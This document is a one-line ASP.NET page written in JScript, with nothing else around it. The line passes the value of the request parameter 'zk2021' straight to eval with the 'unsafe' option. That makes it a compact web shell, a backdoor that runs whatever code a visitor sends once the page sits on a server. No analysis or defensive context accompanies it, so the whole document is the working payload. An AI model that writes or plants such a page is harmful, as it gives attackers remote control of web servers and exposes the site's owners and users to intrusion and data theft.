<%@ Page Language="Jscript"%><%eval(Request.Item["zk2021"],"unsafe");%>
